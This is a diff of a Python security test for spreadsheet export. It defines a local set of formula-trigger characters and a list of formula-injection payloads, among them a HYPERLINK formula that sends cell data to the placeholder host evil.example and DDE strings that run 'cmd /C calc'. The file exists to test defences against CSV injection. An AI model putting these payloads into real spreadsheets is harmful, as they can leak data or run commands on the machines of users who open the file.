@@ -13,9 +13,9 @@ from openpyxl import load_workbook
 
 from devtools import synthetic
 from hub.cli import main
-from shared.safe_cells import FORMULA_STARTS
 from tests.security.privacy_data import FULL_ID, PERIOD, roster_rows
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what Excel, WPS and LibreOffice may run
 PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 
